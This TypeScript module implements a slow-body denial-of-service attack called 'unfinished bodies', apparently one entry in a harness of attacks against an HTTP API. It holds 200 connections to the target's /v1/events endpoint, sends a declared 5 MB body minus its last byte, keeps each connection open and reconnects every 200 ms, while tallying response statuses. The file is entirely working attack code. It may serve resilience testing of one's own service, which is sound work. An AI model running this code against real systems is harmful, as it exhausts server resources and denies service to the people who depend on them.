import { connect, type Socket } from 'node:net';
import type { Attack, Target } from './attack.ts';

const CONNECTIONS = 200;
const BODY_BYTES = 5_000_000;
const PART = Buffer.alloc(65_536, ' ');
const RECONNECT_MS = 200;

/** What became of the connections of an attack. */
type Tally = { opened: number; bytes: number; statuses: Map<string, number> };

/** Sends all of a body but its last byte, then waits. Resolves when the server, or the signal, closes the connection. */
function sendUnfinished(target: Target, tally: Tally, signal: AbortSignal): Promise<void> {
  const { hostname, port } = new URL(target.url);
  const head =
    `POST /v1/events HTTP/1.1\r\nHost: ${hostname}\r\nAuthorization: Bearer ${target.clientKey}\r\n` +
    `Content-Type: application/json\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`;
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port) });
    let left = BODY_BYTES - 1;
    const write = () => {
      while (left > 0) {
        const part = PART.subarray(0, Math.min(left, PART.length));
        left -= part.length;
        tally.bytes += part.length;
        if (!socket.write(part)) return;
      }
    };
    const destroy = () => socket.destroy();
    signal.addEventListener('abort', destroy);
    socket.on('connect', () => {
      tally.opened += 1;
      socket.write(head);
      write();
    });
    socket.on('drain', write);
    socket.on('error', () => {});
    socket.on('data', (chunk) => countStatus(tally, socket, chunk));
    socket.on('close', () => {
      signal.removeEventListener('abort', destroy);
      resolve();
    });
  });
}

function countStatus({ statuses }: Tally, socket: Socket, chunk: Buffer): void {
  const status = /^HTTP\/1\.1 (\d{3})/.exec(String(chunk))?.[1];
  if (status === undefined) return;
  statuses.set(status, (statuses.get(status) ?? 0) + 1);
  socket.destroy();
}

/** Large bodies of which all but the last byte is sent, on many connections of one address. */
export const unfinishedBodies: Attack = {
  name: 'unfinished bodies',
  async run(target, signal) {
    const tally: Tally = { opened: 0, bytes: 0, statuses: new Map() };
    const holdOpen = async () => {
      while (!signal.aborted) {
        await sendUnfinished(target, tally, signal);
        await new Promise((resolve) => setTimeout(resolve, RECONNECT_MS));
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, holdOpen));
    const statuses = [...tally.statuses].map(([status, count]) => `${status}: ${count}`).join(', ');
    return `${tally.opened} unfinished bodies, ${Math.round(tally.bytes / 1e6)} MB sent: ${statuses}`;
  },
};
